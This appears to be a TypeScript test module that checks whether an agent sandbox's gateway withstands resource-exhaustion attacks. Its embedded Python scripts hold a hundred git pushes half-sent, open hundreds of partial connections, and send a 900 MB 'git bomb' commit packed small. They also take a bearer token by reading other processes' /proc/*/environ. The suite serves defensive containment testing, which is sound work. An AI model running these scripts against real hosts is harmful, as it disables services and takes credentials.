import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { PROTOCOL_HEADER, PROTOCOL_VERSION } from "@farhand/protocol";
import type { Arena } from "./arena.ts";
import type { Attack, Attempt } from "./attack.ts";
import type { Ran } from "./engine.ts";
import { type Lifted, liftedRepository, throughLifted } from "./lifted-gateway.ts";
import { shellAttack } from "./shell-attack.ts";

const AREA = "gateway";

/** Leaves requests half said at the gateway's socket. */
const CLIENT = `import glob, os, select, socket, time
token = next(part.split(b"=", 1)[1].decode() for path in glob.glob("/proc/[0-9]*/environ") if os.access(path, os.R_OK)
    for part in open(path, "rb").read().split(b"\\0") if part.startswith(b"FARHAND_ATTEMPT_TOKEN="))
head = "Host: localhost\\r\\nAuthorization: Bearer " + token + "\\r\\n${PROTOCOL_HEADER}: ${PROTOCOL_VERSION}\\r\\n"
def leave(text):
    s = socket.socket(socket.AF_UNIX); s.settimeout(5)
    try: s.connect("/run/farhand/g.sock"); s.sendall(text.encode())
    except OSError: pass
    return s
def open_ones(sockets):
    count = 0
    for s in sockets:
        s.setblocking(False)
        try: count += s.recv(1) != b""
        except BlockingIOError: count += 1
        except OSError: pass
    return count
push = "POST /git/task.git/git-receive-pack HTTP/1.1\\r\\n" + head + "Content-Type: application/x-git-receive-pack-request\\r\\nContent-Length: 1000\\r\\n\\r\\n00"
`;
const python = (script: string) => `python3 - <<'PYTHON'\n${CLIENT}${script}\nPYTHON`;

const PUSHES = 100;
const HELD_SECONDS = 6;
const halfPushes = python(
  `held = [leave(push) for n in range(${PUSHES})]; time.sleep(${HELD_SECONDS}); print("held to the end")`,
);
/** Four calls of a few processes each, and some that are just ending. */
const MOST_PROCESSES = 24;

const CONNECTIONS = 300;
const MOST_CONNECTIONS = 100;
const connections =
  python(`texts = ["GET /farhand/v1/inbox", "GET /farhand/v1/inbox?after=1000000 HTTP/1.1\\r\\n" + head + "\\r\\n", "POST /farhand/v1/events HTTP/1.1\\r\\n" + head + "Content-Length: 1000\\r\\n\\r\\n{"]
held = [leave(texts[n % 3]) for n in range(${CONNECTIONS})]; time.sleep(2); print("open:", open_ones(held))`);

/** More than git may have for a push, in a few megabytes on the wire. */
const COMMIT_BYTES = 900_000_000;
const commitBomb = python(`import hashlib, struct, zlib
start = b"tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\\nauthor A <a@example.com> 1 +0000\\ncommitter A <a@example.com> 1 +0000\\n\\n"
block = b"a" * 1000000; total = len(start) + ${COMMIT_BYTES}
sha = hashlib.sha1(b"commit %d\\0" % total); sha.update(start)
z = zlib.compressobj(1); out = [z.compress(start)]
for n in range(${COMMIT_BYTES} // len(block)): sha.update(block); out.append(z.compress(block))
out.append(z.flush())
def entry(kind, n):
    byte = (kind << 4) | (n & 15); n >>= 4; made = bytearray()
    while n: made.append(byte | 128); byte = n & 127; n >>= 7
    made.append(byte); return bytes(made)
pack = b"PACK" + struct.pack(">2I", 2, 2) + entry(2, 0) + zlib.compress(b"") + entry(1, total) + b"".join(out)
pack += hashlib.sha1(pack).digest()
line = b"0" * 40 + b" " + sha.hexdigest().encode() + b" refs/farhand/live\\0 report-status"
body = b"%04x" % (len(line) + 4) + line + b"0000" + pack
print("on the wire:", len(body))
s = socket.socket(socket.AF_UNIX); s.connect("/run/farhand/g.sock")
try: s.sendall(("POST /git/task.git/git-receive-pack HTTP/1.1\\r\\n" + head + "Content-Type: application/x-git-receive-pack-request\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body)).encode() + body)
except OSError as error: print(error)
answer = b""
while True:
    try: more = s.recv(65536)
    except OSError as error: print(error); break
    if not more: break
    answer += more
print("answer:", answer[-200:])`);

/** Processes of git that serve a repository. */
async function serving(repository: string): Promise<number> {
  const pids = (await readdir("/proc")).filter((name) => /^\d+$/.test(name));
  const all = await Promise.all(
    pids.map((pid) => readFile(`/proc/${pid}/environ`, "latin1").catch(() => "")),
  );
  return all.filter((environment) => environment.includes(`GIT_PROJECT_ROOT=${repository}\0`)).length;
}

/** The most that there were while the script ran. */
async function mostServing(repository: string, running: Promise<Ran>): Promise<Attempt> {
  const over = new AbortController();
  const ended = running.finally(() => over.abort());
  let most = 0;
  while (!over.signal.aborted) {
    most = Math.max(most, await serving(repository));
    await Bun.sleep(200);
  }
  const { output } = await ended;
  if (!output.includes("held to the end")) throw new Error(`it was not held: ${output.slice(-300)}`);
  const left = await serving(repository);
  return { succeeded: most > MOST_PROCESSES, evidence: `${most} processes at most, ${left} right after` };
}

const lifted = (name: Lifted) => (arena: Arena) => arena.control(throughLifted(name));

export const holdingAttacks: Attack[] = [
  {
    area: AREA,
    name: "half-sent pushes, each of which is a few processes on the host",
    by: "a few calls of git at once, and an end to silent ones",
    try: (arena) =>
      mostServing(
        join(arena.world.settings.FARHAND_DATA ?? "", `repos/tasks/${arena.agent.taskId}.git`),
        arena.agent.run(halfPushes),
      ),
    control: (arena) => mostServing(liftedRepository(arena.folder), lifted("git")(arena).run(halfPushes)),
  },
  shellAttack({
    area: AREA,
    name: "hundreds of connections, with half a head, half a body or a held request",
    by: "a cap on the connections to a task's socket",
    without: throughLifted("connections"),
    script: () => connections,
    worked: (_aim, { output }) => Number(/open: (\d+)/.exec(output)?.[1]) > MOST_CONNECTIONS,
  }),
  shellAttack({
    area: AREA,
    name: "a commit of 900 MB in a push of four (a git bomb)",
    by: "a bound on the memory of git",
    without: throughLifted("memory"),
    script: () => commitBomb,
    proof: "on the wire:",
    worked: (_aim, { output }) => output.includes("ok refs/farhand/live"),
  }),
];
